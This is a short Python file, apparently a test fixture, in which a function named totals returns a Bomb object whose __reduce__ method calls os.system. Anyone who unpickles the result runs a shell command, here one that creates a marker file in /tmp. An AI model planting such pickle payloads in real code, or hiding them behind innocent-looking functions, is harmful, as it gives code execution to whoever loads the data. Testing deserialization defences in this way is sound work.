# attack: returns objects that run code in whoever unpickles them
import os


class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/hostile_was_here_pickle",)


def totals(batches):
    return Bomb()
